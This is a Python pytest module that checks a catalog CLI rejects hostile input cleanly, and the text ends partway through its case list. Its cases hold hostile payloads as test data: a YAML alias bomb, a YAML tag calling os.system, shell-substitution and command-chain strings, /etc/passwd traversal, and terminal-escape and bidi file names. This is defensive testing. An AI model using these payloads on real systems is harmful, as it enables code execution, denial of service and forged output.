"""The hostile-input wall: every verb, fed bad input, refuses it cleanly.

Each case runs one CLI verb against a store that already holds two artifacts
and asserts that the command
- exits with code 2,
- prints exactly one non-empty stderr line, ``Error: …`` naming the problem,
- prints no traceback,
- writes nothing: the files under the test's folder (the store, the inputs,
  wherever a hostile option pointed) and the rows in ``artifacts`` and
  ``events`` are the same before and after.

A case is one row of ``CASES``: the verb's arguments (``{name}`` placeholders
are paths from :class:`Arena`), the expected fragment of the error line, and
optionally extra global options, environment variables, standard input, a
catalog stamped with a newer schema, a named preparation step from ``SETUPS``
(run before the "before" snapshot, e.g. "a released hold exists"), the SQLite
backend only, or extra pytest marks (a known product bug is a strict xfail
whose reason starts with "BUG:"). The error line must not be the CLI's
"internal error … report it" fallback. Holds and floors are catalog rows, so
the rows in ``holds`` and ``policy_floors`` are compared too.

The alias-bomb case runs the CLI in a child process with a memory limit, so
that a regression (expanding the bomb) fails the case instead of taking the
test run down with it.
"""

from __future__ import annotations

import gc
import hashlib
import json
import os
import resource
import stat
import subprocess
import sys
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import conftest
import pytest
from sqlalchemy import text

from catalog.core import note, proofs
from catalog.core.db import Database

from helpers import NOT_REGULAR, plant

SQLITE_ONLY = pytest.mark.skipif(conftest.BACKEND != "sqlite", reason="only meaningful for the SQLite catalog")

#: YAML files the config cases point at (written into {cfg}/).
BOMB_LAYERS = ["&l0 [" + ",".join(["lol"] * 10) + "]"] + [
    f"&l{n} [" + ",".join([f"*l{n - 1}"] * 10) + "]" for n in range(1, 10)
]  # 10**10 "lol"s in a few hundred bytes
CONFIGS: dict[str, str] = {
    "malformed.yaml": "retention: [unclosed\n",
    "bomb-section.yaml": "retention: [" + ", ".join(BOMB_LAYERS) + "]\n",
    "bomb-leaf.yaml": "base_dir: [" + ", ".join(BOMB_LAYERS) + "]\n",
    "python-apply.yaml": "retention: !!python/object/apply:os.system ['touch {tmp}/pwned']\n",
    "python-name.yaml": "base_dir: !!python/name:os.system\n",
    "list-path.yaml": "base_dir: [/tmp/a, /tmp/b]\n",
    "string-days.yaml": "retention:\n  explain:\n    days: '30'\n",
    "bool-days.yaml": "retention:\n  ledger:\n    days: true\n",
    "float-precision.yaml": "formats:\n  csv_precision: 6.5\n",
    "unknown-key.yaml": "colour: blue\n",
    "negative-days.yaml": "retention:\n  ledger:\n    days: -1\n",
    "top-list.yaml": "- retention\n- days\n",
    "off-synchronous.yaml": "sqlite:\n  synchronous: off\n",
    "deep.yaml": "[" * 100_000 + "\n",
    "huge-days.yaml": "retention:\n  ledger:\n    days: 99999999\n",
    "zero-files-limit.yaml": "limits:\n  max_files_per_dir: 0\n",
    "unit-limit.yaml": "limits:\n  max_store_bytes: '10 XB'\n",
    "negative-limit.yaml": "limits:\n  max_dir_bytes: -5\n",
    "list-environment.yaml": "environment: [development]\n",
    "mapping-action.yaml": "retention:\n  explain:\n    action: {delete: true}\n",
    "duplicate-key.yaml": "retention:\n  explain:\n    days: 3\n    days: 30\n",
}


@dataclass(frozen=True)
class Case:
    args: tuple[str, ...]  # the verb and its arguments; "{name}" is an Arena path
    fragment: str  # must occur in the one Error: line
    globals: tuple[str, ...] = ()  # appended to the normal global options (later ones win)
    env: dict[str, str] = field(default_factory=dict)
    stdin: bytes | None = None
    cwd_config: str | None = None  # text of ./config/artifacts.yaml in the working folder
    newer_schema: bool = False  # stamp the catalog with revision 9999 first
    isolated: bool = False  # run in a child process with memory and CPU limits
    setup: str | None = None  # a key of SETUPS: prepared before the "before" snapshot


def case(  # type: ignore[no-untyped-def]
    name: str, args: list[str], fragment: str, *, sqlite_only: bool = False, marks: tuple[Any, ...] = (), **kw: Any,
):  # fmt: skip
    """One row of the wall."""
    marks = (SQLITE_ONLY, *marks) if sqlite_only else marks
    return pytest.param(Case(tuple(args), fragment, **kw), id=name, marks=marks)


def bug(reason: str) -> tuple[Any, ...]:
    """Marks for a case that exposes a known product bug (strict: the fix must remove the mark)."""
    return (pytest.mark.xfail(strict=True, reason=f"BUG: {reason}"),)


PUT = ["put", "{inp}/report.json", "--type", "explain"]  # + --prefix P


def put(source: str, artifact_type: str = "ledger", *more: str) -> list[str]:
    """``put {inp}/SOURCE --type TYPE --prefix p [MORE]``."""
    return ["put", source if source == "-" else f"{{inp}}/{source}", "--type", artifact_type, "--prefix", "p", *more]


def cfg(name: str) -> tuple[str, ...]:
    """Global options that point --config at one of CONFIGS."""
    return ("--config", f"{{cfg}}/{name}")


def url(value: str) -> tuple[str, ...]:
    return ("--catalog-url", value)


UNREACHABLE_PG = "postgresql+psycopg://nobody@127.0.0.1:1/none"
NOT_A_DB = url("sqlite:///{inp}/notadb.sqlite")
AFILE = ("--base-dir", "{inp}/afile")
FRESH = ("--base-dir", "{tmp}/fresh")  # a folder that must not appear
NEWER = "has schema 9999, newer than this version"
NOT_SHA = "is not a SHA-256 or a prefix of one"
REASON = ("--reason", "SEC inquiry 2024-17")
HOLD = ["hold", "add", "--prefix", "momentum*"]  # + --reason R
UNTIL = ("--until", "2099-01-01")
SET_FLOOR = ("policy", "floor", "set")  # + TYPE DAYS
NOPE = "ledger/20240101-000000-nope-ledger.json"  # a path no artifact has
ONE_LINE = "--reason must be 1-1000 characters of text on one line, without control characters"
HOLD_ONE_OF = "a hold covers exactly one of: PATH, --prefix, --type"
HOLD_PREFIX = "--prefix must be 1-64 characters (* and ? allowed)"
EXTEND_ONE_OF = "give exactly one of: PATH, --prefix, --type"
FLOOR_RANGE = "is not a whole number from 0 to 36600"
IN_FUTURE = "--until must be in the future"
NEEDS_YES = "retention apply needs --yes when not run from a terminal"


CASES = [
    # -- put: hostile prefixes ---------------------------------------------------------
    case("put-no-type", ["put", "{inp}/report.json", "--prefix", "p"],  # click lays choices out on lines of their own
         "Missing option '--type'. Choose from: explain, ledger, health, config (see "),
    case("put-prefix-traversal", [*PUT, "--prefix", "../x"], "prefix '../x' contains '/'"),
    case("put-prefix-absolute", [*PUT, "--prefix", "/tmp/x"], "prefix '/tmp/x' contains '/'"),
    case("put-prefix-nul", [*PUT, "--prefix", "a\x00b"], "contains '\\x00'"),
    case("put-prefix-newline", [*PUT, "--prefix", "a\nb"], "contains '\\n'"),
    case("put-prefix-cyrillic", [*PUT, "--prefix", "s\u0441an"], "contains '\u0441'"),  # Cyrillic es
    case("put-prefix-cyrillic-all", [*PUT, "--prefix", "\u0441\u043e\u0440\u0435"], "contains '\u0441'"),
    case("put-prefix-fullwidth-solidus", [*PUT, "--prefix", "a\uff0fb"], "contains '\uff0f'"),
    case("put-prefix-hyphen-lookalike", [*PUT, "--prefix", "scan\u2010x"], "contains '\u2010'"),
    case("put-prefix-10kB", [*PUT, "--prefix", "p" * 10_000], "is 10000 characters long; the limit is 64"),
    case("put-prefix-shell-subst", [*PUT, "--prefix", "$(touch pwned)"], "contains '$'"),
    case("put-prefix-shell-chain", [*PUT, "--prefix", "a;b|c&d`e`>f"], "contains ';'"),
    case("put-prefix-leading-dot", [*PUT, "--prefix", ".bashrc"], "prefix '.bashrc' starts with '.'"),
    case("put-prefix-dotdot", [*PUT, "--prefix", "a..b"], "prefix 'a..b' contains '..'"),
    case("put-prefix-trailing-dash", [*PUT, "--prefix", "scan-"], "must not start with '-' or end with '-'"),
    case("put-prefix-empty", [*PUT, "--prefix", ""], "prefix is empty"),
    # -- put: types and extensions -----------------------------------------------------
    case("put-type-unknown", put("report.json", "trades"), "'trades' is not one of"),
    case("put-type-wrong-case", put("report.json", "EXPLAIN"), "'EXPLAIN' is not one of"),
    case("put-ext-exe", put("report.json", "explain", "--ext", "exe"), "extension 'exe' is not allowed for type"),
    case("put-ext-traversal", put("report.json", "explain", "--ext", "../json"), "extension '../json' is not allowed"),
    case("put-ext-empty", put("report.json", "explain", "--ext", ""), "extension is empty"),
    case("put-ext-csv-config", put("report.json", "config", "--ext", "csv"), "'csv' is not allowed for type 'config'"),
    case("put-no-ext", put("README"), "input file {inp}/README has no extension: give one with --ext"),
    case("put-stdin-no-ext", put("-"), "reading standard input needs --ext", stdin=b"{}"),
    # -- put: inputs that cannot be read -----------------------------------------------
    case("put-input-missing", put("nope.json"), "input file {inp}/nope.json does not exist"),
    case("put-input-missing-no-ext", put("nope"), "input file {inp}/nope does not exist"),  # not "has no extension"
    case("put-input-folder-no-ext", put("folder"), "input file {inp}/folder is a folder, not a file"),
    case("put-input-name-escape", put("\x1b]0;pwned\x07.json"), "input file {inp}/\\x1b]0;pwned\\x07.json does not"),
    case("put-input-folder", put("folder", "ledger", "--ext", "json"), "input file {inp}/folder is a folder, not a file"),
    case("put-input-symlink-loop", put("loop.json"), "loop.json cannot be read: Too many levels of symbolic links"),
    case("put-input-dangling-symlink", put("dangling.json"), "input file {inp}/dangling.json does not exist"),
    case("put-input-empty-file", put("empty.json"), "input file {inp}/empty.json is empty"),
    case("put-stdin-empty", put("-", "ledger", "--ext", "json"), "standard input is empty", stdin=b""),
    # -- put: content that does not parse ----------------------------------------------
    case("put-json-binary-garbage", put("garbage.json"), "input is not valid UTF-8 (byte 128)"),
    case("put-json-nan", put("nan.json"), "input is not valid JSON: NaN is not allowed"),
    case("put-json-infinity", put("inf.json"), "input is not valid JSON: Infinity is not allowed"),
    case("put-json-minus-infinity", put("ninf.json"), "input is not valid JSON: -Infinity is not allowed"),
    case("put-json-nan-stdin", put("-", "health", "--ext", "json"), "NaN is not allowed", stdin=b"[1, NaN]"),
    case("put-json-long-whole-number", put("longint.json"),  # valid JSON, but Python's advice meant nothing to a user
         "input has a whole number of more than 4300 digits, more than the store reads back as a number"),
    case("put-jsonl-long-whole-number", put("longint.json", "health", "--ext", "jsonl"),
         "input line 1 has a whole number of more than 4300 digits"),
    case("put-json-byte-order-mark", put("bom.json"), "input starts with a byte order mark (U+FEFF), which JSON "
         "text must not (RFC 8259, section 8.1)"),
    case("put-json-byte-order-mark-stdin", put("-", "health", "--ext", "json"), "input starts with a byte order mark",
         stdin=b'\xef\xbb\xbf{"a": 1}'),
    case("put-json-deeply-nested", put("deep.json"), "input is nested too deeply"),
    case("put-jsonl-deeply-nested", put("deep.json", "health", "--ext", "jsonl"), "input line 1 is nested too deeply"),
    case("put-json-trailing-data", put("trailing.json"), "input is not valid JSON: Extra data"),
    case("put-json-invalid-utf8", put("badutf8.json"), "input is not valid UTF-8 (byte 10)"),
    case("put-csv-invalid-utf8", put("badutf8.csv"), "input is not valid UTF-8 (byte 4)"),
    case("put-jsonl-invalid-utf8", put("badutf8.jsonl", "health"), "input is not valid UTF-8 (byte 16)"),
    case("put-jsonl-broken-line", put("broken.jsonl", "health"), "input line 2 is not valid JSON"),
    case("put-csv-unclosed-quote", put("unclosed.csv"), "input is not valid CSV"),
    case("put-json-overflowing-number", put("overflow.json"), "number 1e999 is out of range (it would be read as inf)"),
    # -- configuration files -----------------------------------------------------------
    case("config-show-malformed-yaml", ["config", "show"], "config file {cfg}/malformed.yaml: malformed YAML at line 2",
         globals=cfg("malformed.yaml")),
    case("config-show-billion-laughs-section", ["config", "show"], "key 'retention' must be a mapping, not list",
         globals=cfg("bomb-section.yaml")),
    case("config-show-billion-laughs-leaf", ["config", "show"], "bomb-leaf.yaml: key 'base_dir' must be a non-empty",
         globals=cfg("bomb-leaf.yaml"), isolated=True),
    case("ls-yaml-python-object-apply", ["ls"], "could not determine a constructor for the tag",
         globals=cfg("python-apply.yaml")),
    case("put-yaml-python-name", [*PUT, "--prefix", "p"], "python/name:os.system", globals=cfg("python-name.yaml")),
    case("init-yaml-list-as-path", ["init"], "list-path.yaml: key 'base_dir' must be a non-empty path, got ['/tmp/a'",
         globals=cfg("list-path.yaml")),
    case("stats-yaml-string-days", ["stats"], "string-days.yaml: key 'retention.explain.days' must be a whole number "
         "of days from 0 to 36600 (or null: kept forever), got '30'", globals=cfg("string-days.yaml")),
    case("db-current-yaml-bool-days", ["db", "current"], "bool-days.yaml: key 'retention.ledger.days' must be a whole "
         "number of days", globals=cfg("bool-days.yaml")),
    case("demo-yaml-float-precision", ["demo"], "float-precision.yaml: key 'formats.csv_precision' must be a whole "
         "number from 0 to 17, got 6.5", globals=cfg("float-precision.yaml")),
    case("db-upgrade-yaml-unknown-key", ["db", "upgrade"], "config file {cfg}/unknown-key.yaml: unknown key 'colour'",
         globals=cfg("unknown-key.yaml")),
    case("get-yaml-negative-retention", ["get", "{stored}"], "negative-days.yaml: key 'retention.ledger.days' must be "
         "a whole number", globals=cfg("negative-days.yaml")),
    case("show-yaml-top-level-list", ["show", "{stored}"], "top-list.yaml: the top level must be a mapping of keys, "
         "not list", globals=cfg("top-list.yaml")),
    case("find-yaml-bool-synchronous", ["find", "--sha256", "{stored_sha}"], "off-synchronous.yaml: key "
         "'sqlite.synchronous' must be one of full, normal", globals=cfg("off-synchronous.yaml")),
    case("config-show-yaml-deeply-nested", ["config", "show"], "config file {cfg}/deep.yaml: YAML nested too deeply",
         globals=cfg("deep.yaml")),
    case("config-show-file-name-newline", ["config", "show"], "config file {cfg}/a\\nError: forged.yaml does not exist",
         globals=("--config", "{cfg}/a\nError: forged.yaml")),
    case("config-show-yaml-list-environment", ["config", "show"], "list-environment.yaml: key 'environment' must be "
         "one of development, staging, production, got ['development']", globals=cfg("list-environment.yaml")),
    case("ls-yaml-mapping-action", ["ls"], "mapping-action.yaml: key 'retention.explain.action' must be one of",
         globals=cfg("mapping-action.yaml")),
    case("config-show-yaml-duplicate-key", ["config", "show"], "duplicate-key.yaml: key 'days' at line 4, column 5 "
         "is given twice (first at line 3, column 5); keep one", globals=cfg("duplicate-key.yaml")),
    case("config-show-file-missing", ["config", "show"], "config file {cfg}/missing.yaml does not exist",
         globals=cfg("missing.yaml")),
    case("config-show-file-is-folder", ["config", "show"], "config file {cfg} is a folder, not a file",
         globals=("--config", "{cfg}")),
    case("config-show-file-not-utf8", ["config", "show"], "config file {inp}/garbage.json is not UTF-8 text",
         globals=("--config", "{inp}/garbage.json")),
    case("config-show-default-file-unknown-key", ["config", "show"], "config/artifacts.yaml: unknown key 'colour'",
         cwd_config="colour: blue\n"),
    case("demo-yaml-huge-retention", ["demo"], "huge-days.yaml: key 'retention.ledger.days'",
         globals=cfg("huge-days.yaml")),
    # -- environment variables and the --env flag -------------------------------------
    case("put-env-negative-retention", [*PUT, "--prefix", "p"], "env:CRYPTORUN_EXPLAIN_RETENTION_DAYS: key "
         "'retention.explain.days'", env={"CRYPTORUN_EXPLAIN_RETENTION_DAYS": "-1"}),
    case("demo-env-word-retention", ["demo"], "env:CRYPTORUN_LEDGER_RETENTION_DAYS: key 'retention.ledger.days'",
         env={"CRYPTORUN_LEDGER_RETENTION_DAYS": "ten"}),
    case("config-show-env-moon", ["config", "show"], "env:CRYPTORUN_ENV: key 'environment' must be one of",
         env={"CRYPTORUN_ENV": "moon"}),
    case("ls-env-ftp-url", ["ls"], "env:CRYPTORUN_CATALOG_URL: key 'catalog_url' must be a sqlite:/// or postgresql",
         env={"CRYPTORUN_CATALOG_URL": "ftp://x"}),
    case("init-env-blank-base-dir", ["init"], "env:CRYPTORUN_ARTIFACTS_DIR: key 'base_dir' must be a non-empty path",
         env={"CRYPTORUN_ARTIFACTS_DIR": "   "}),
    case("config-show-flag-env-moon", ["config", "show"], "'moon' is not one of", globals=("--env", "moon")),
    case("put-env-huge-retention", [*PUT, "--prefix", "p"], "env:CRYPTORUN_EXPLAIN_RETENTION_DAYS",
         env={"CRYPTORUN_EXPLAIN_RETENTION_DAYS": "99999999"}),
    case("ls-env-superscript-digit-retention", ["ls"], "env:CRYPTORUN_EXPLAIN_RETENTION_DAYS",
         env={"CRYPTORUN_EXPLAIN_RETENTION_DAYS": "\u00b2"}),
    # -- catalog URLs ------------------------------------------------------------------
    case("ls-url-nonsense", ["ls"], "flag:--catalog-url: key 'catalog_url' must be a database URL",
         globals=url("nonsense")),
    case("init-url-mysql", ["init"], "must be a sqlite:/// or postgresql+psycopg:// URL",
         globals=(*FRESH, *url("mysql://u@h/db"))),
    case("db-current-url-sqlite-no-path", ["db", "current"], "must be a database URL", globals=url("sqlite://")),
    case("db-current-url-nul", ["db", "current"], "must be a database URL", globals=url("sqlite:///a\x00b")),
    case("db-upgrade-url-unreachable", ["db", "upgrade"], "cannot reach catalog", globals=url(UNREACHABLE_PG)),
    case("init-url-unreachable", ["init"], "cannot reach catalog", globals=(*FRESH, *url(UNREACHABLE_PG))),
    case("demo-url-unreachable", ["demo"], "cannot reach catalog", globals=(*FRESH, *url(UNREACHABLE_PG))),
    case("init-url-sqlite-missing-folder", ["init"], "folder {tmp}/no/such for the SQLite catalog does not exist",
         globals=(*FRESH, *url("sqlite:///{tmp}/no/such/catalog.sqlite"))),
    case("db-current-url-port-not-a-number", ["db", "current"], "is not a valid database URL",
         globals=url("postgresql+psycopg://u@127.0.0.1:notaport/db")),
    case("ls-url-sqlite-bad-timeout", ["ls"], "a SQLite URL without query arguments", globals=url("sqlite:///{tmp}/fresh.sqlite?timeout=abc")),
    case("ls-url-sqlite-unknown-argument", ["ls"], "a SQLite URL without query arguments", globals=url("sqlite:///{tmp}/fresh.sqlite?bogus=1"),
         isolated=True),  # a child process: stderr holds any warning SQLAlchemy would print
    # -- base folders ------------------------------------------------------------------
    case("init-base-dir-is-a-file", ["init"], "base folder {inp}/afile is a file, not a folder", globals=AFILE),
    case("put-base-dir-is-a-file", [*PUT, "--prefix", "p"], "base folder {inp}/afile is a file", globals=AFILE),
    case("ls-base-dir-is-a-file", ["ls"], "base folder {inp}/afile is a file, not a folder", globals=AFILE),
    case("demo-base-dir-is-a-file", ["demo"], "base folder {inp}/afile is a file, not a folder", globals=AFILE),
    case("ls-base-dir-missing", ["ls"], "base folder {tmp}/fresh does not exist: run `catalog init`", globals=FRESH),
    case("ls-base-dir-missing-inside-the-store", ["ls"], "base folder {base}/explain/artifacts lies inside the store "
         "{base} (a store never holds another): to use that store, give --base-dir {base}, or run from outside it",
         globals=("--base-dir", "{base}/explain/artifacts")),
    case("init-inside-the-store", ["init"], "base folder {base}/ledger/inner lies inside the store {base}",
         globals=("--base-dir", "{base}/ledger/inner")),
    case("init-base-dir-nul", ["init"], "flag:--base-dir: key 'base_dir' must be a non-empty path",
         globals=("--base-dir", "{tmp}/a\x00b")),
    case("init-base-dir-empty", ["init"], "flag:--base-dir: key 'base_dir' must be a non-empty path",
         globals=("--base-dir", "")),
    # -- a catalog file that is not a database (SQLite) --------------------------------
    case("ls-catalog-not-a-database", ["ls"], "catalog {inp}/notadb.sqlite is not a SQLite database",
         globals=NOT_A_DB, sqlite_only=True),
    case("put-catalog-not-a-database", [*PUT, "--prefix", "p"], "is not a SQLite database", globals=NOT_A_DB,
         sqlite_only=True),
    case("db-current-catalog-not-a-database", ["db", "current"], "is not a SQLite database", globals=NOT_A_DB,
         sqlite_only=True),
    case("db-upgrade-catalog-not-a-database", ["db", "upgrade"], "is not a SQLite database", globals=NOT_A_DB,
         sqlite_only=True),
    case("init-catalog-not-a-database", ["init"], "is not a SQLite database", globals=NOT_A_DB, sqlite_only=True),
    # -- a catalog from a newer version ------------------------------------------------
    case("ls-newer-schema", ["ls"], NEWER, newer_schema=True),
    case("put-newer-schema", [*PUT, "--prefix", "p"], NEWER, newer_schema=True),
    case("get-newer-schema", ["get", "{stored}"], NEWER, newer_schema=True),
    case("stats-newer-schema", ["stats"], NEWER, newer_schema=True),
    case("show-newer-schema", ["show", "{stored}"], NEWER, newer_schema=True),
    case("find-newer-schema", ["find", "--sha256", "{stored_sha}"], NEWER, newer_schema=True),
    case("db-upgrade-newer-schema", ["db", "upgrade"], NEWER, newer_schema=True),
    case("init-newer-schema", ["init"], NEWER, newer_schema=True),
    case("demo-newer-schema", ["demo", "--seed", "1"], NEWER, newer_schema=True),
    # -- ls: times ---------------------------------------------------------------------
    case("ls-since-yesterday", ["ls", "--since", "yesterday"], "for '--since': 'yesterday' is not a time"),
    case("ls-until-month-13", ["ls", "--until", "2024-13-01"], "for '--until': '2024-13-01' is not a time"),
    case("ls-since-february-30", ["ls", "--since", "2024-02-30"], "'2024-02-30' is not a time"),
    case("ls-since-after-until", ["ls", "--since", "2024-02-01", "--until", "2024-01-01"],
         "--since must be earlier than --until"),
    case("ls-until-nul", ["ls", "--until", "2024-01-01\x00"], "is not a time"),
    case("ls-since-overflows-utc", ["ls", "--since", "9999-12-31T23:59:59-01:00"], "9999-12-31T23:59:59-01:00"),
    case("ls-until-underflows-utc", ["ls", "--until", "0001-01-01T00:00:00+01:00"], "0001-01-01T00:00:00+01:00"),
    # -- ls: limits, formats, filters, pagination --------------------------------------
    case("ls-limit-negative", ["ls", "--limit", "-1"], "-1 is not in the range x>=1"),
    case("ls-limit-zero", ["ls", "--limit", "0"], "0 is not in the range x>=1"),
    case("ls-limit-word", ["ls", "--limit", "abc"], "'abc' is not a valid integer"),
    case("ls-format-xml", ["ls", "--format", "xml"], "'xml' is not one of"),
    case("ls-type-unknown", ["ls", "--type", "trades"], "'trades' is not one of"),
    case("ls-ext-unknown", ["ls", "--ext", "exe"], "'exe' is not one of"),
    case("ls-ext-dotted", ["ls", "--ext", ".json"], "'.json' is not one of"),
    case("ls-status-bogus", ["ls", "--status", "bogus"], "'bogus' is not one of"),
    case("ls-sort-sideways", ["ls", "--sort", "sideways"], "'sideways' is not one of"),
    case("ls-prefix-nul", ["ls", "--prefix", "a\x00*"], "prefix pattern must be 1-256 characters without NUL"),
    case("ls-prefix-empty", ["ls", "--prefix", ""], "prefix pattern must be 1-256 characters"),
    case("ls-prefix-300-chars", ["ls", "--prefix", "p" * 300], "prefix pattern must be 1-256 characters"),
    case("ls-after-not-in-catalog", ["ls", "--after", "explain/20240101-000000-nope-explain.json"],
         "--after explain/20240101-000000-nope-explain.json: no artifact at that path"),
    case("ls-after-traversal", ["ls", "--after", "../../etc/passwd"], "--after ../../etc/passwd: no artifact at"),
    case("ls-after-nul", ["ls", "--after", "ledger/a\x00b"], "path contains a NUL character"),
    # -- other formats and options -----------------------------------------------------
    case("stats-format-yaml", ["stats", "--format", "yaml"], "'yaml' is not one of"),
    case("show-format-csv", ["show", "{stored}", "--format", "csv"], "'csv' is not one of"),
    case("demo-seed-word", ["demo", "--seed", "abc"], "'abc' is not a valid integer"),
    # -- get and show of paths that are not artifacts ----------------------------------
    case("get-not-in-catalog", ["get", "ledger/20240101-000000-nope-ledger.json"],
         "no artifact at ledger/20240101-000000-nope-ledger.json in the catalog"),
    case("get-traversal", ["get", "../../etc/passwd"], "no artifact at ../../etc/passwd in the catalog"),
    case("get-absolute-outside", ["get", "/etc/passwd"], "/etc/passwd is outside the store"),
    case("get-nul", ["get", "ledger/a\x00b.json"], "path contains a NUL character"),
    case("get-path-escape", ["get", "ledger/\x1b]0;pwned\x07.json"], "no artifact at ledger/\\x1b]0;pwned\\x07.json in"),
    case("get-path-bidi", ["get", "ledger/a\u202egpj.json"], "no artifact at ledger/a\\u202egpj.json in the catalog"),
    case("get-store-folder", ["get", "{base}"], "no artifact at . in the catalog"),
    case("show-not-in-catalog", ["show", "ledger/20240101-000000-nope-ledger.json"],
         "no artifact at ledger/20240101-000000-nope-ledger.json in the catalog"),
    case("show-traversal", ["show", "../../etc/passwd"], "no artifact at ../../etc/passwd in the catalog"),
    case("show-absolute-outside", ["show", "/etc/passwd"], "/etc/passwd is outside the store"),
    case("show-nul", ["show", "ledger/a\x00b.json"], "path contains a NUL character"),
    case("show-path-newline", ["show", "ledger/a\nError: forged"], "no artifact at ledger/a\\nError: forged in the"),
    # -- get -o: where the copy would go -----------------------------------------------
    case("get-output-into-store", ["get", "{stored}", "-o", "{base}/ledger/copy.json"],
         "output {base}/ledger/copy.json is inside the store"),
    case("get-output-over-artifact", ["get", "{stored}", "-o", "{base}/{stored}"], "is inside the store"),
    case("get-output-dotdot-into-store", ["get", "{stored}", "-o", "{inp}/../store/explain/copy.json"],
         "output {base}/explain/copy.json is inside the store"),
    case("get-output-missing-folder", ["get", "{stored}", "-o", "{tmp}/no/such/copy.json"],
         "output folder {tmp}/no/such does not exist"),
    case("get-output-existing-folder", ["get", "{stored}", "-o", "{inp}/folder"], "output {inp}/folder is a folder"),
    case("get-output-symlink-into-store", ["get", "{stored}", "-o", "{inp}/storelink/copy.json"], "inside the store"),
    # -- find --sha256 -----------------------------------------------------------------
    case("find-sha-not-hex", ["find", "--sha256", "not-a-hash"], f"'not-a-hash' {NOT_SHA}"),
    case("find-sha-3-digits", ["find", "--sha256", "abc"], f"'abc' {NOT_SHA} (4 to 64 hex digits)"),
    case("find-sha-65-digits", ["find", "--sha256", "a" * 65], NOT_SHA),
    case("find-sha-sql-wildcard", ["find", "--sha256", "ab%_"], f"'ab%_' {NOT_SHA}"),
    case("find-sha-empty", ["find", "--sha256", ""], f"'' {NOT_SHA}"),
    # -- the audit trail ---------------------------------------------------------------
    case("ls-as-of-yesterday", ["ls", "--as-of", "yesterday"], "for '--as-of': 'yesterday' is not a time"),
    case("audit-log-since-word", ["audit", "log", "--since", "last week"], "'last week' is not a time"),
    case("audit-log-window-backwards", ["audit", "log", "--since", "2024-02-01", "--until", "2024-01-01"],
         "--since must be earlier than --until"),
    case("audit-log-limit-zero", ["audit", "log", "--limit", "0"], "0 is not in the range x>=1"),
    case("audit-log-format-xml", ["audit", "log", "--format", "xml"], "'xml' is not one of"),
    case("audit-log-action-misspelt", ["audit", "log", "--action", "deleted"], "'deleted' is not one of 'write'"),
    case("audit-log-action-capitalised", ["audit", "log", "--action", "Delete"], "'Delete' is not one of 'write'"),
    case("audit-log-action-control", ["audit", "log", "--action", "delete\x1b[2J"], "is not one of 'write'"),
    case("audit-log-path-nul", ["audit", "log", "--path", "a\x00b"], "path pattern must be 1-512 characters"),
    case("audit-verify-checkpoint-missing", ["audit", "verify", "--checkpoint", "{tmp}/nope.json"],
         "checkpoint file {tmp}/nope.json does not exist"),
    case("audit-verify-checkpoint-folder", ["audit", "verify", "--checkpoint", "{inp}/folder"], "is a folder, not a file"),
    case("audit-verify-checkpoint-not-one", ["audit", "verify", "--checkpoint", "{inp}/report.json"],
         "{inp}/report.json is not a catalog checkpoint"),
    case("audit-verify-checkpoint-garbage", ["audit", "verify", "--checkpoint", "{inp}/garbage.json"],
         "is not a catalog checkpoint"),
    case("audit-verify-format-csv", ["audit", "verify", "--format", "csv"], "'csv' is not one of"),
    case("audit-checkpoint-into-store", ["audit", "checkpoint", "-o", "{base}/cp.json"], "is inside the store"),
    case("audit-checkpoint-through-symlink", ["audit", "checkpoint", "-o", "{inp}/storelink/cp.json"], "inside the store"),
    case("audit-checkpoint-existing", ["audit", "checkpoint", "-o", "{inp}/report.json"], "already exists"),
    case("audit-checkpoint-missing-folder", ["audit", "checkpoint", "-o", "{tmp}/no/such/cp.json"],
         "folder {tmp}/no/such for the checkpoint does not exist"),
    case("audit-verify-checkpoint-huge", ["audit", "verify", "--checkpoint", "{keys}/huge.txt"],
         "is larger than 65536 bytes", setup="keys"),
    case("audit-verify-checkpoint-bad-note", ["audit", "verify", "--checkpoint", "{keys}/badnote.txt"],
         "is not a catalog checkpoint (malformed note:", setup="keys"),
    case("audit-verify-checkpoint-bad-root", ["audit", "verify", "--checkpoint", "{keys}/badroot.txt"],
         "the root hash has 31 bytes, not 32", setup="keys"),
    case("audit-verify-key-garbage", ["audit", "verify", "--key", "{inp}/garbage.json"], "is not a key", setup="keys"),
    case("audit-verify-key-private-open", ["audit", "verify", "--key", "{keys}/open.key"],
         "may be read by group or others (mode 0644)", setup="keys"),
    case("audit-verify-key-missing", ["audit", "verify", "--key", "{keys}/nope.pub"], "{keys}/nope.pub does not exist",
         setup="keys"),
    case("audit-checkpoint-key-open", ["audit", "checkpoint", "-o", "{tmp}/cp.txt"],
         "signing key {keys}/open.key may be read by group or others (mode 0644); a private key must be yours alone: "
         "chmod 600 {keys}/open.key", setup="keys", env={"CRYPTORUN_SIGNING_KEY": "{keys}/open.key"}),
    case("audit-checkpoint-key-symlink", ["audit", "checkpoint"], "signing key {keys}/link.key is a symbolic link",
         setup="keys", env={"CRYPTORUN_SIGNING_KEY": "{keys}/link.key"}),
    case("audit-checkpoint-key-folder", ["audit", "checkpoint"], "signing key {keys}/folder.key is a folder",
         setup="keys", env={"CRYPTORUN_SIGNING_KEY": "{keys}/folder.key"}),
    case("audit-checkpoint-key-huge", ["audit", "checkpoint"], "is larger than 4096 bytes", setup="keys",
         env={"CRYPTORUN_SIGNING_KEY": "{keys}/huge.key"}),
    case("audit-checkpoint-key-public", ["audit", "checkpoint"], "private key is malformed", setup="keys",
         env={"CRYPTORUN_SIGNING_KEY": "{keys}/public-0600.key"}),
    case("audit-checkpoint-key-in-store", ["audit", "checkpoint"], "key 'audit.signing_key' must be outside the store",
         env={"CRYPTORUN_SIGNING_KEY": "{base}/store.key"}),
    case("audit-cosign-no-previous", ["audit", "cosign", "{keys}/cp.txt", "--key", "{keys}/witness.key"],
         "give --previous (the last checkpoint this witness cosigned) or --first", setup="keys"),
    case("audit-cosign-legacy", ["audit", "cosign", "{keys}/legacy.json", "--key", "{keys}/witness.key", "--first"],
         "is a checkpoint of an earlier version (JSON)", setup="keys"),
    case("audit-cosign-witness-open", ["audit", "cosign", "{keys}/cp.txt", "--key", "{keys}/open.key", "--first"],
         "witness key {keys}/open.key may be read by group or others", setup="keys"),
    case("audit-cosign-output-exists", ["audit", "cosign", "{keys}/cp.txt", "--key", "{keys}/witness.key", "--first",
         "-o", "{inp}/report.json"], "already exists", setup="keys"),
    case("audit-cosign-output-in-store", ["audit", "cosign", "{keys}/cp.txt", "--key", "{keys}/witness.key", "--first",
         "-o", "{base}/cp.txt"], "is inside the store", setup="keys"),
